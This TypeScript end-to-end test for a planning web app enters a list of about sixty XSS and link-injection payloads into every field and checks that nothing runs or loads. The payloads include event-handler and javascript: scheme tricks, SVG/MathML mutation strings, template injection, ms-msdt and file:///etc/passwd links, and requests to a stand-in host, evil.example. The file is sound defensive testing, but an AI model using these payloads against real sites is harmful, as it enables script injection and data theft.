import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { askLocally } from './support/packed';
import { taskTitle } from './support/guide';
import { boxOf, detailsOf, goTo, openAddress, openSubPage, startPlan } from './support/page';
import { JOURNEY_DOORS } from './support/journey-doors';
import { SUB_PAGES, VIEW_NAMES } from './support/views';

const RUN = 'window.__ran=1';
const ELSEWHERE = 'https://evil.example';

/**
 * Attacks known from other programs that show Markdown, links and titles. Each would run `RUN` or request `ELSEWHERE`.
 */
const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src="${ELSEWHERE}/x.js"></sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ELSEWHERE}/pixel.png">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><style><img src=x onerror="${RUN}"></style></mtext></math>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${ELSEWHERE}/x.swf"></object>`,
  `<embed src="${ELSEWHERE}/x.swf">`,
  `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  `<style>@import "${ELSEWHERE}/x.css";</style>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><button autofocus>x</button></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<body onload="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java&#10;script:${RUN}">x</a>`,
  `<div style="background:url(${ELSEWHERE}/x)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `--><img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](\u0001javascript:${RUN})`,
  `[x](javascript&colon;${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](file:///etc/passwd)`,
  `[x](smb://evil.example/share)`,
  `[x](ms-msdt:/id)`,
  `[x](blob:${ELSEWHERE}/1)`,
  `[x](https://good.example@evil.example/)`,
  `[x](//evil.example/x)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}\n\n[x]`,
  `![x](${ELSEWHERE}/pixel.png)`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![x][1]\n\n[1]: ${ELSEWHERE}/pixel.png`,
  `[![x](${ELSEWHERE}/pixel.png)](javascript:${RUN})`,
  `${ELSEWHERE}/autolink"onmouseover="${RUN}`,
  `www.evil.example/<img src=x onerror=${RUN}>`,
  `| a |\n| - |\n| <img src=x onerror=${RUN}> |`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\u202Egnp.exe\u202C <img src=x onerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
];

describe.each(JOURNEY_DOORS)('texts that would be code elsewhere, in $door', (door) => {
  if (!door.isThere) return it.skip('needs a runtime');
  const journey = door.setUp();
  const asked: string[] = [];
  let page: Page;
  let origin: string;

  const ask = <Value>(name: string, input: unknown): Promise<Value> =>
    askLocally<Value>(journey.dataDir(), name, input);
  const askedElsewhere = (): string[] => asked.filter((url) => !url.startsWith(origin));

  beforeAll(async () => {
    page = await journey.open();
    [origin = ''] = /^\w+:\/\/[^/]+/.exec(page.url()) ?? [];
    page.on('request', (request) => asked.push(request.url()));
    await startPlan(page);
    await fillEverything();
    await page.reload();
  });

  /** Enters every payload into every text field. */
  async function fillEverything(): Promise<void> {
    const { records } = await ask<{ records: Records }>('app.open', {});
    const [plan] = records.plan;
    const planId = plan?.id ?? '';
    const phaseId = records.phase[0]?.id ?? '';
    const taskId = records.task.find(({ title }) => title === taskTitle(0, 0))?.id ?? '';
    const week = plan?.startDay ?? '';
    const all = PAYLOADS.join('\n\n');
    await ask('task.note', { planId, taskId, note: all });
    await ask('checklist.add', { planId, taskId, titles: PAYLOADS.slice(0, 50).map(oneLine) });
    await ask('review.write', {
      planId,
      week,
      wentWell: all,
      inTheWay: all,
      learned: all,
      reflection: all,
    });
    for (const payload of PAYLOADS)
      await fillTitles(oneLine(payload), { planId, phaseId, taskId, week });
    await ask('plan.change', { planId, title: oneLine(PAYLOADS[2] ?? '') });
    await ask('phase.edit', { planId, phaseId, title: oneLine(PAYLOADS[9] ?? '') });
    const harmful = PAYLOADS.map((payload) => /\(([a-z-]+:[^)]*)\)/i.exec(payload)?.[1] ?? payload);
    // Address fields reject anything that is not a web address.
    for (const url of harmful.filter((each) => !/^https?:\/\/[^@]*$/i.test(each))) {
      await expect(ask('evidence.add', { planId, taskId, url, title: 'x' })).rejects.toThrow();
      const resource = { planId, phaseId, title: 'x', kind: 'book', by: null, url };
      await expect(ask('resource.add', resource)).rejects.toThrow();
    }
  }

  interface Place {
    readonly planId: string;
    readonly phaseId: string;
    readonly taskId: string;
    readonly week: string;
  }

  /** Enters the text as the name, reason or body of each kind of thing. */
  async function fillTitles(
    title: string,
    { planId, phaseId, taskId, week }: Place,
  ): Promise<void> {
    await ask('task.add', { planId, phaseId, title, plannedWeeks: 0.1 });
    await ask('pause.add', { planId, first: '2030-01-01', last: '2030-01-02', reason: title });
    const url = `${ELSEWHERE}/"onmouseover="${RUN}`;
    await ask('evidence.add', { planId, taskId, url, title });
    await ask('resource.add', { planId, phaseId, title, kind: 'book', by: title, url });
    await ask('week.plan', { planId, week, goals: [{ title, minutes: 0, measure: 'done' }] });
    const skill = { kind: 'to-learn', title, about: title, priority: 'important', weeks: 1 };
    await ask('skill.add', { planId, ...skill });
  }

  async function expectHarmless(): Promise<void> {
    await imagesAnswered(page);
    expect(await page.evaluate(() => '__ran' in window)).toBe(false);
    expect(askedElsewhere()).toEqual([]);
  }

  it.each(VIEW_NAMES)('run nothing and request nothing in %s', async (view) => {
    await goTo(page, view);
    await expectHarmless();
  });

  it.each(SUB_PAGES)('run nothing and request nothing in the page $path', async (subPage) => {
    await openSubPage(page, subPage);
    await expectHarmless();
  });

  it('create no harmful element or link in a rendered note', async () => {
    await goTo(page, 'Roadmap');
    await boxOf(page, taskTitle(0, 0)).focus();
    await page.keyboard.press('o');
    const details = detailsOf(page, taskTitle(0, 0));
    await details.getByRole('button', { name: 'Edit note' }).waitFor();
    const harmful =
      'script, iframe, object, embed, link, style, base, meta, form form, img, video, audio, svg script, math';
    expect(await details.locator(harmful).count()).toBe(0);
    const links = await details
      .getByRole('link')
      .evaluateAll((all) => all.map((link) => (link as HTMLAnchorElement).href));
    expect(links.filter((href) => !/^(?:https?|mailto):/.test(href))).toEqual([]);
    expect(links.filter((href) => href.includes('@'))).toEqual([]);
    const handlers = await details.evaluate((element) =>
      [...element.querySelectorAll('*')].flatMap(({ attributes }) =>
        [...attributes].map(({ name }) => name).filter((name) => name.startsWith('on')),
      ),
    );
    expect(handlers).toEqual([]);
    await expectHarmless();
  });

  it('run nothing and request nothing when imported', async () => {
    await openAddress(page, '/bring-in');
    await page.getByRole('textbox', { name: 'Text' }).focus();
    await page.keyboard.insertText(`# ${oneLine(PAYLOADS[0] ?? '')}\n\n${PAYLOADS.join('\n\n')}`);
    await page.getByText(/\d+ tasks/).waitFor();
    await page.getByRole('textbox', { name: 'Plan title' }).fill(PAYLOADS[2] ?? '');
    await page.getByRole('button', { name: 'Add as a plan' }).click();
    await page.waitForFunction(() => !location.hash.includes('bring-in'));
    await goTo(page, 'Roadmap');
    await expectHarmless();
  });
});

/** Waits until each image on the page has come or failed, after which its handlers run. */
const imagesAnswered = (page: Page): Promise<void> =>
  page.evaluate(async () => {
    await Promise.allSettled([...document.images].map((image) => image.decode()));
    // A request of the page's own, answered after those that the view made.
    await fetch('/index.html');
    await new Promise(requestAnimationFrame);
  });

interface Records {
  readonly plan: readonly { readonly id: string; readonly startDay: string }[];
  readonly phase: readonly { readonly id: string }[];
  readonly task: readonly { readonly id: string; readonly title: string }[];
}

const oneLine = (text: string): string => text.replaceAll(/\s+/g, ' ');
